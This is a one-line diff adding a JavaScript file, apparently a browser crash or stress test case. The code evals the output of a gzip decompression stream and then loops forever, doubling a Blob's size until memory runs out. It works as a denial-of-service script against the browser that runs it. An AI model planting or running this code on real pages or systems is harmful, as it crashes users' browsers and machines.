@@ -1,0 +1,1 @@
+new Response(new Blob([new Uint8Array(1e7)]).stream().pipeThrough(new DecompressionStream("gzip"))).text().then(eval);var b=new Blob([1]);for(;;)b=new Blob([b,b]);
